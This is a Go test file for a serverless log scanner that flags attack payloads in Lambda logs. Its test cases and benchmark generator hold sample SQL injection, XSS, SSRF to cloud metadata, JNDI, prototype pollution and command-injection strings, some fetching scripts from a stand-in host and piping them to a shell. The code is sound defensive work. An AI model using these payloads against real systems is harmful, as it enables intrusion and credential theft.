package logs

import (
	"bufio"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/slsguard/slsguard/internal/logs/lambdalog"
)

const nodePrefix = "2026-03-02T10:00:00.100Z\t6a1f2e40-1c2b-4c1e-9f0e-1a2b3c4d5e6f\tINFO\t"

// apiEvent is a logged API Gateway event whose query parameter q is v.
func apiEvent(v string) string {
	return nodePrefix + `{"resource":"/search","path":"/search","httpMethod":"GET","headers":{"User-Agent":"Mozilla/5.0 (X11; Linux x86_64)"},"queryStringParameters":{"q":` + jsonString(v) + `},"requestContext":{"stage":"prod"},"body":null}`
}

func jsonString(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`)
	return `"` + r.Replace(s) + `"`
}

func TestPayloadTruePositives(t *testing.T) {
	tests := []struct {
		name, msg string
		want      payloadClass
	}{
		{"sqli in query", apiEvent("1' OR '1'='1"), classSQLi},
		{"sqli url-encoded", apiEvent("1%27%20UNION%20SELECT%20password%20FROM%20users--"), classSQLi},
		{"sqli numeric", apiEvent("1 OR 1=1"), classSQLi},
		{"sqli in JSON body string", nodePrefix + `{"httpMethod":"POST","body":"{\"user\":\"admin'--\",\"pw\":\"x\"}"}`, classSQLi},
		{"sqli in access log query", "GET /items?id=1%27%20or%20%271%27%3D%271 HTTP/1.1 200", classSQLi},
		{"xss", apiEvent(`<script>alert(document.cookie)</script>`), classXSS},
		{"xss in SQS body", `{"Records":[{"eventSource":"aws:sqs","body":"<img src=x onerror=alert(1)>"}]}`, classXSS},
		{"command substitution", apiEvent("x$(curl http://evil.example/x.sh)"), classCommand},
		{"command after semicolon", apiEvent("8.8.8.8; cat /etc/hosts"), classCommand},
		{"command and-and", apiEvent("a && wget evil.example"), classCommand},
		{"command pipe", apiEvent("report.pdf | bash -i"), classCommand},
		{"command backtick in text", "processing file `whoami`.txt", classCommand},
		{"env dump", apiEvent("x; printenv"), classCommand},
		{"serverless-goat sleep", apiEvent("https://www.example.com/document.doc; sleep 5000 #"), classCommand},
		{"serverless-goat env", apiEvent("https://foobar; env #"), classCommand},
		{"serverless-goat cat file", apiEvent("https://www.example.com/document.doc; cat package.json #"), classCommand},
		{"serverless-goat node", apiEvent(`https://; node -e 'const AWS = require("aws-sdk")'`), classCommand},
		{"dvfaas sql in SNS reading", `{"Records":[{"EventSource":"aws:sns","Sns":{"Message":"{\"sensor\":\"s1\",\"reading\":\"(SELECT @@datadir)\"}"}}]}`, classSQLi},
		{"traversal in S3 key", `{"Records":[{"eventSource":"aws:s3","s3":{"object":{"key":"uploads/../../etc/passwd"}}}]}`, classTraversal},
		{"traversal encoded in text", "GET /static/%2e%2e%2f%2e%2e%2fsecret 404", classTraversal},
		{"proc environ", "reading /proc/self/environ for request", classTraversal},
		{"etc passwd value", apiEvent("/etc/passwd"), classTraversal},
		{"ssrf metadata", apiEvent("http://169.254.169.254/latest/meta-data/iam/security-credentials/"), classSSRF},
		{"ssrf ipv6", apiEvent("http://[fd00:ec2::254]/latest/api/token"), classSSRF},
		{"ssrf runtime api", apiEvent("http://localhost:9001/2018-06-01/runtime/invocation/next"), classSSRF},
		{"ssrf gcp in text", "fetching url=http://metadata.google.internal/computeMetadata/v1/", classSSRF},
		{"jndi in header text", "User-Agent: ${jndi:ldap://evil.example/a}", classJNDI},
		{"jndi obfuscated", apiEvent("${${lower:j}ndi:ldap://x/a}"), classJNDI},
		{"template curly", apiEvent("{{7*7}}"), classTemplate},
		{"template dollar", apiEvent("${7*7}"), classTemplate},
		{"template python", apiEvent("{{''.__class__.__mro__}}"), classTemplate},
		{"proto key", nodePrefix + `{"httpMethod":"POST","body":"{\"__proto__\":{\"isAdmin\":true}}"}`, classPrototype},
		{"constructor prototype key", `{"level":"info","input":{"constructor":{"prototype":{"admin":true}}}}`, classPrototype},
		{"proto in query text", "GET /api?__proto__[admin]=1 200", classPrototype},
		{"nosql in body", nodePrefix + `{"httpMethod":"POST","body":"{\"username\":\"admin\",\"password\":{\"$ne\":null}}"}`, classNoSQL},
		{"nosql beside password outside events", `{"msg":"login","password":{"$gt":""}}`, classNoSQL},
		{"nosql where", `{"filter":{"$where":"sleep(5000)"}}`, classNoSQL},
		{"nosql query param", "GET /login?user=admin&password[$ne]=x 200", classNoSQL},
		{"python dict dump", `{'resource': '/', 'httpMethod': 'GET', 'queryStringParameters': {'id': "1' OR '1'='1"}}`, classSQLi},
		{"node inspect dump", `2026-03-02T10:00:00.100Z	6a1f2e40-1c2b-4c1e-9f0e-1a2b3c4d5e6f	INFO	{ httpMethod: 'GET', queryStringParameters: { file: '../../../../etc/passwd' } }`, classTraversal},
		{"event longer than the scanned part", strings.Replace(apiEvent("x' OR 1=1--"), `"requestContext"`, `"padding":"`+strings.Repeat("a", maxScan)+`","requestContext"`, 1), classSQLi},
		{"json log format message", `{"timestamp":"2026-03-02T10:00:00Z","level":"INFO","requestId":"r1","message":{"httpMethod":"GET","queryStringParameters":{"q":"<svg onload=alert(1)>"}}}`, classXSS},
		{"json log format string message", `{"timestamp":"2026-03-02T10:00:00Z","level":"INFO","message":"event {\"httpMethod\":\"GET\",\"path\":\"/a\",\"queryStringParameters\":{\"id\":\"1 UNION SELECT 1,2\"}}"}`, classSQLi},
	}
	var s payloadScanner
	for _, tt := range tests {
		h, ok := s.scan(tt.msg)
		if !ok || h.class != tt.want {
			t.Errorf("%s: scan(%q) = %v %v, want %v", tt.name, tt.msg, h.class, ok, tt.want)
		}
	}
}

func TestPayloadFalsePositives(t *testing.T) {
	tests := []struct{ name, msg string }{
		{"db debug select", "Executing (default): SELECT count(*) FROM orders WHERE status = 'paid' AND created_at > '2026-01-01'"},
		{"db debug json", `{"level":"debug","msg":"query","sql":"SELECT * FROM users WHERE id = $1 OR email = $2","duration":3}`},
		{"mongoose debug", `Mongoose: orders.find({ status: { '$in': [ 'paid', 'shipped' ] }, deletedAt: { '$ne': null } }, {})`},
		{"app mongo filter json", `{"msg":"filter","filter":{"createdAt":{"$gt":"2026-01-01"},"status":{"$ne":"deleted"}}}`},
		{"ordinary event", apiEvent("running shoes size 42")},
		{"event with punctuation", apiEvent("Tom & Jerry; cat lovers | best of 2024")},
		{"apostrophes", apiEvent("O'Brien's order (2 items); thanks")},
		{"html in app log", `{"msg":"rendered","html":"<p>Hello <b>Ana</b></p>"}`},
		{"runtime api env dump", `{'AWS_LAMBDA_RUNTIME_API': '127.0.0.1:9001', 'AWS_REGION': 'eu-west-1'}`},
		{"runtime connection error", `{"errorType":"Error","errorMessage":"connect ECONNREFUSED 127.0.0.1:9001"}`},
		{"relative import", "Loading module from ../lib/handler.js"},
		{"user agent and accept", apiEvent("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")},
		{"cookie header", apiEvent("session=abc123; theme=dark")},
		{"trace header", apiEvent("Root=1-65e2f1a0-0123456789abcdef;Sampled=1")},
		{"shell words in prose", apiEvent("please ping me later; env questions welcome")},
		{"javascript error", "TypeError: Cannot read properties of undefined (reading '__proto__') at merge (/var/task/index.js:12:5)"},
		{"relative source map paths", "Error at webpack:///../../../src/handler.ts:10"},
		{"outgoing request log", `{"msg":"calling partner","url":"https://partner.example/q","headers":{"content-type":"application/json"},"body":"SELECT id FROM t WHERE a = 'x'"}`},
		{"relative config path", `{"msg":"loading config","path":"../../config/prod.json"}`},
		{"cat in prose", apiEvent("toys for dogs; cat lovers | sleep well")},
		{"query without payload", "GET /search?q=running+shoes&page=2 HTTP/1.1 200"},
		{"sql in plain text with quotes", "pg: query 'SELECT id FROM t WHERE a = 1 OR b = 2' took 3 ms"},
		{"template syntax in config log", "rendering template {{name}} for ${stage}"},
		{"separator lines", "-------------------- ____ ===="},
		{"union in prose", "joined the union; selected 3 items"},
		{"number comparison", "retry 1=1 attempts; budget 5=5"},
	}
	var s payloadScanner
	for _, tt := range tests {
		if h, ok := s.scan(tt.msg); ok {
			t.Errorf("%s: scan(%q) = %v at %d in %q, want nothing", tt.name, tt.msg, h.class, h.at, h.value)
		}
	}
}

func TestPayloadAlerts(t *testing.T) {
	res, err := Analyze([]string{filepath.Join("testdata", "payload", "api.log")}, nil, Options{Kind: Lambda})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, a := range res.Alerts {
		if a.ID != "LOG107" {
			continue
		}
		var ev []string
		for _, e := range a.Evidence {
			ev = append(ev, fmt.Sprintf("%s %s %s:%d %s", e.Event, e.Principal, filepath.ToSlash(e.File), e.Line, e.Time))
		}
		got = append(got, a.Message+" | "+strings.Join(ev, " ; "))
	}
	const f = "testdata/payload/api.log"
	// Evidence: class, function (the file for text logs), file:line, time
	// (none in text logs). The AWS key in the URL is masked.
	want := []string{
		f + `: SQL injection in logged input (3 lines), first: "1' OR '1'='1"` +
			" | sqli " + f + " " + f + ":2  ; sqli " + f + " " + f + ":7 ",
		f + `: path traversal in logged input (1 line), first: "uploads/../../etc/passwd"` +
			" | path-traversal " + f + " " + f + ":4 ",
		f + `: cloud metadata or runtime API address (SSRF) in logged input (1 line), first: "http://169.254.169.254/latest/meta-data/?token=AKIA…1a5d44a2"` +
			" | ssrf " + f + " " + f + ":5 ",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("LOG107 alerts (-want +got):\n%s", diff)
	}
}

func TestPayloadWindow(t *testing.T) {
	var pa payloadAlerts
	const hour = 3600_000
	for i, ts := range []int64{hour, hour + 60_000, 2*hour + 1, 2*hour + 5} {
		ev := lambdalog.Event{Kind: lambdalog.Other, Function: "search", Timestamp: ts, Message: apiEvent("${jndi:ldap://x/a}"),
			Loc: lambdalog.Loc{File: "f", Index: i}}
		pa.add(&ev)
	}
	var got []string
	for _, a := range pa.alerts() {
		got = append(got, fmt.Sprintf("%s %d", a.Evidence[0].Time, len(a.Evidence)))
	}
	want := []string{"1970-01-01T01:00:00Z 2", "1970-01-01T02:00:00.001Z 2"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("windows (-want +got):\n%s", diff)
	}
}

func TestExcerpt(t *testing.T) {
	tests := []struct {
		in   string
		at   int
		want string
	}{
		{"id=1' OR '1'='1", 0, "id=1' OR '1'='1"},
		{"password=hunter2hunter ; cat /etc/passwd", 20, "password=hunt…6f5917a3 ; cat /etc/passwd"},
		{"a\nb\tc", 0, "a b c"},
		{strings.Repeat("x", 200) + "<script>", 200, "…" + strings.Repeat("x", 20) + "<script>"},
		{"key AKIAIOSFODNN7EXAMPLE1 here", 0, "key AKIA…"},
	}
	for _, tt := range tests {
		got := excerpt(tt.in, tt.at)
		if !strings.HasPrefix(got, tt.want) {
			t.Errorf("excerpt(%q, %d) = %q, want prefix %q", tt.in, tt.at, got, tt.want)
		}
		if utf8.RuneCountInString(got) > maxExcerpt {
			t.Errorf("excerpt(%q, %d) = %q: longer than %d runes", tt.in, tt.at, got, maxExcerpt)
		}
	}
}

func FuzzPayloadScan(f *testing.F) {
	fh, err := os.Open(filepath.Join("testdata", "payload", "api.log"))
	if err != nil {
		f.Fatal(err)
	}
	sc := bufio.NewScanner(fh)
	for sc.Scan() {
		f.Add(sc.Text())
	}
	fh.Close()
	f.Add(apiEvent("{{7*7}}"))
	f.Add(`{'body': "{\"a\": \"$(id)\"}", 'httpMethod': 'POST'}`)
	f.Fuzz(func(t *testing.T, msg string) {
		var s payloadScanner
		h, ok := s.scan(msg)
		if !ok {
			return
		}
		if int(h.class) >= len(classNames) || h.at < 0 || h.at > len(h.value) {
			t.Fatalf("scan(%q) = %+v", msg, h)
		}
		ex := excerpt(h.value, h.at)
		if utf8.RuneCountInString(ex) > maxExcerpt || !utf8.ValidString(ex) {
			t.Fatalf("excerpt(%q) = %q", h.value, ex)
		}
	})
}

// writePayloadBench writes about size bytes of Lambda text logs for one
// invocation after another: START, an application line, a logged API
// Gateway event, a JSON structured line, END and REPORT. One logged event
// in 500 carries an attack payload.
func writePayloadBench(tb testing.TB, path string, size int64) int64 {
	tb.Helper()
	f, err := os.Create(path)
	if err != nil {
		tb.Fatal(err)
	}
	w := bufio.NewWriterSize(f, 1<<20)
	payloads := []string{"1' OR '1'='1", "<script>alert(1)</script>", "../../../etc/passwd", "${jndi:ldap://x/a}",
		"http://169.254.169.254/latest/meta-data/", "x; curl http://evil.example/s | sh"}
	benign := []string{"running shoes", "O'Brien", "size 42; color blue", "https://example.com/a?b=c&d=e", "2026-03-02"}
	var n int64
	for i := 0; n < size; i++ {
		id := fmt.Sprintf("6a1f2e40-1c2b-4c1e-9f0e-%012d", i)
		q := benign[i%len(benign)]
		if i%500 == 499 {
			q = payloads[(i/500)%len(payloads)]
		}
		lines := []string{
			"START RequestId: " + id + " Version: $LATEST",
			"2026-03-02T10:00:00.100Z\t" + id + "\tINFO\thandling order " + fmt.Sprint(i) + " for customer 1234",
			strings.Replace(apiEvent(q), "6a1f2e40-1c2b-4c1e-9f0e-1a2b3c4d5e6f", id, 1),
			`{"timestamp":"2026-03-02T10:00:00.120Z","level":"INFO","requestId":"` + id + `","message":"order saved","orderId":` + fmt.Sprint(i) + `,"items":3}`,
			"END RequestId: " + id,
			"REPORT RequestId: " + id + "\tDuration: 12.50 ms\tBilled Duration: 13 ms\tMemory Size: 256 MB\tMax Memory Used: 71 MB",
		}
		for _, l := range lines {
			w.WriteString(l)
			w.WriteByte('\n')
			n += int64(len(l) + 1)
		}
	}
	if err := w.Flush(); err != nil {
		tb.Fatal(err)
	}
	if err := f.Close(); err != nil {
		tb.Fatal(err)
	}
	return n
}

// BenchmarkAnalyzeLambdaPayloads runs the Lambda log pipeline (parsing,
// LOG101-LOG107, series) over generated text logs; SLSGUARD_BENCH_MB sets
// the size (default 64).
func BenchmarkAnalyzeLambdaPayloads(b *testing.B) {
	mb := 64
	if s := os.Getenv("SLSGUARD_BENCH_MB"); s != "" {
		mb, _ = strconv.Atoi(s)
	}
	path := filepath.Join(b.TempDir(), "lambda.log")
	n := writePayloadBench(b, path, int64(mb)<<20)
	b.SetBytes(n)
	b.ResetTimer()
	for range b.N {
		res, err := Analyze([]string{path}, nil, Options{Kind: Lambda})
		if err != nil || len(res.Problems) != 0 {
			b.Fatal(err, res.Problems)
		}
	}
}

// BenchmarkPayloadScan measures the LOG107 scanner alone on the messages
// of the same logs.
func BenchmarkPayloadScan(b *testing.B) {
	path := filepath.Join(b.TempDir(), "lambda.log")
	n := writePayloadBench(b, path, 16<<20)
	data, err := os.ReadFile(path)
	if err != nil {
		b.Fatal(err)
	}
	var msgs []string
	for _, l := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		if ev := lambdalog.Parse(l); ev.Kind == lambdalog.Other {
			msgs = append(msgs, ev.Message)
		}
	}
	var s payloadScanner
	b.SetBytes(n)
	b.ResetTimer()
	for range b.N {
		hits := 0
		for _, m := range msgs {
			if _, ok := s.scan(m); ok {
				hits++
			}
		}
		if hits == 0 {
			b.Fatal("no hits")
		}
	}
}

// TestPayloadBenchInput checks the benchmark input: every planted payload
// is found, nothing else is.
func TestPayloadBenchInput(t *testing.T) {
	path := filepath.Join(t.TempDir(), "lambda.log")
	writePayloadBench(t, path, 4<<20)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var s payloadScanner
	invocations, hits := 0, map[string]int{}
	for _, l := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		ev := lambdalog.Parse(l)
		if ev.Kind == lambdalog.Start {
			invocations++
		}
		if h, ok := s.scan(ev.Message); ok {
			hits[h.class.String()]++
		}
	}
	want := map[string]int{}
	classes := []string{"sqli", "xss", "path-traversal", "jndi", "ssrf", "command-injection"}
	for i := 499; i < invocations; i += 500 {
		want[classes[(i/500)%len(classes)]]++
	}
	if diff := cmp.Diff(want, hits); diff != "" {
		t.Errorf("hits in %d invocations (-want +got):\n%s", invocations, diff)
	}
}

// TestPayloadLogGroups reads filter-log-events output: the function comes
// from the log group, the time from the event.
func TestPayloadLogGroups(t *testing.T) {
	res, err := Analyze([]string{filepath.Join("testdata", "payload", "filter-log-events.json")}, nil, Options{Kind: Lambda})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, a := range res.Alerts {
		e := a.Evidence[0]
		got = append(got, fmt.Sprintf("%s %s %s %s #%d | %s", a.ID, e.Event, e.Principal, e.Time, e.Index, a.Message))
	}
	want := []string{
		`LOG107 path-traversal images 2026-03-02T10:00:00.1Z #1 | images: path traversal in logged input (1 line), first: "..%2f..%2fetc%2fpasswd"`,
		`LOG107 prototype-pollution images 2026-03-02T10:00:00.2Z #2 | images: prototype pollution in logged input (1 line), first: "__proto__"`,
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("alerts (-want +got):\n%s", diff)
	}
}
